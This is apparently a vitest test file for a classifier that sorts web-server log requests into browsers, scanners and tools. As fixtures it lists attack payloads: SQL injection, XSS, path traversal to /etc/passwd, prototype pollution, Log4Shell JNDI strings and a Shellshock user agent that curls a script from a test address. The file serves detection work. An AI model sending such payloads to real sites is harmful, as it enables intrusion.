import { expect, test } from 'vitest';
import type { ClientClass } from '../profile/entry.ts';
import type { Micros } from '../profile/time.ts';
import { createClientClassifier } from './classifier.ts';

const CHROME =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36';

/** The classes of requests such as `404 GET /path`, one a second, of one client. */
function classesOf(lines: readonly string[], userAgent = CHROME, ip = '203.0.113.7'): ClientClass[] {
  const clients = createClientClassifier(1);
  return lines.map((line, n) => {
    const [status, method = '', ...path] = line.split(' ');
    const url = `https://shop.example${path.join(' ')}`;
    const time = (1_760_000_000_000_000 + n * 1e6) as Micros;
    return clients.classify({ time, ip, method, url, status: Number(status), userAgent });
  });
}

test.each([
  '/search?q=xp_cmdshell+enable',
  '/search?q=%27+or+%271%27%3D%271+explained',
  '/search?q=..%2F..%2F+in+require+path',
  '/search?q=log4j+%24%7Bjndi%3Aldap%7D+what+is+it',
  '/search?q=wget+http://example.org/file.zip',
  '/docs/Global_Objects/Object/__proto__',
  '/adminer.php?db=crm&sql=select+table_name+from+information_schema.tables',
  '/articles?filters[price][$gt]=10',
  '/search?jql=project+%3D+%22ABC%22+AND+status+%3D+%22Open%22',
  '/Microsoft-Server-ActiveSync?Cmd=Ping&User=ann',
  '/connector?cmd=ls&target=l1_Lw',
  '/image?src=../../photos/a.jpg',
  '/photos/2024/../../index.html',
  '/examples/.env.example',
  '/HNAP1/',
  '/+CSCOE+/logon.html',
])('%s is ordinary if the site answers it', (path) => {
  expect(classesOf([`200 GET ${path}`])).toEqual(['browser']);
});

test.each([
  '/search?q=1%27)+OR+1=1+LIMIT+1--+',
  '/search?q=%22%3E%3Csvg/onload=confirm(1)%3E',
  '/item?name=foo+UNION+SELECT+1,2',
  '/?file=../../../../etc/passwd',
  '/?file=../../config.php',
  '/?__proto__[x]=1',
  '/?user[$ne]=1',
])('%s is an attack, also if the site answers it', (path) => {
  expect(classesOf([`200 GET ${path}`])).toEqual(['scanner']);
});

test.each([
  '/galerie/<?php%20echo%20$bild;%20?>',
  '/%22%3E%3Cimg%20src=%22/img/a.jpg%22',
  '/file:///C:/xampp/htdocs/a.png',
  '/$%7B(user.name)!%7D',
  '/css/../../img/a.png',
  '/typo3conf/ext/news/icon.gif',
])('%s is a link that was written wrongly, or is old', (path) => {
  expect(classesOf([`404 GET ${path}`])).toEqual(['browser']);
});

test('programs look for the server that they were made for', () => {
  const office = [
    '404 GET /_vti_inf.html',
    '404 POST /_vti_bin/shtml.exe/_vti_rpc',
    '404 POST /EWS/Exchange.asmx',
  ];
  expect(classesOf(office, 'Microsoft Office/16.0')).not.toContain('scanner');
  expect(classesOf(office).at(-1)).toBe('scanner');
  const gateway = ['404 POST /global-protect/prelogin.esp', '404 POST /global-protect/getconfig.esp'];
  expect(classesOf(gateway, 'PAN GlobalProtect/6.2.4')).not.toContain('scanner');
  expect(classesOf(gateway, 'python-requests/2.32')).toEqual(['scanner', 'scanner']);
  expect(classesOf(['404 GET /nacos/v1/ns'], 'Nacos-Java-Client:v2.3')).not.toContain('scanner');
});

test('files in a network drive have any name', () => {
  const file = '200 GET /remote.php/dav/files/ann/server/.env';
  expect(classesOf(['207 PROPFIND /remote.php/dav/files/ann/', file])[1]).toBe('browser');
  expect(classesOf([file])).toEqual(['scanner']);
});

test('a page of a wiki is about a file', () => {
  const page = '200 GET /wiki/Wp-config.php';
  expect(classesOf(['200 GET /wiki/Main', page])).toEqual(['browser', 'browser']);
  expect(classesOf([page])).toEqual(['scanner']);
});

test('missing software proves less in the middle of a visit, from a crawler, and if its name was typed', () => {
  const pages = ['/', '/a', '/b', '/c', '/d'].map((path) => `200 GET ${path}`);
  expect(classesOf([...pages, '404 GET /phpmyadmin/index.php']).at(-1)).toBe('unknown');
  expect(classesOf(['404 GET /phpmyadmin/index.php'])).toEqual(['scanner']);
  expect(classesOf(['404 GET /xmlrpc.php'], 'Mozilla/5.0 (compatible; bingbot/2.0)')).toEqual(['unknown']);
  expect(classesOf(['404 GET /owa'])).toEqual(['unknown']);
  expect(classesOf([...pages, '404 GET /.env']).at(-1)).toBe('scanner');
});

test.each([
  `\${jndi:ldap://203.0.113.9/a}`,
  `\${\${::-j}ndi:dns://x.example/u}`,
  '() { :; }; /bin/bash -c "curl http://203.0.113.9/s"',
])('a user agent %s is an attack', (userAgent) => {
  expect(classesOf(['200 GET /'], userAgent)).toEqual(['scanner']);
});

test('a user agent may name the library that it uses', () => {
  expect(classesOf(['200 GET /'], 'Composer/2.8.4 (Linux; 6.1.0; PHP 8.3.14; cURL 8.9.1)')).toEqual(['tool']);
});
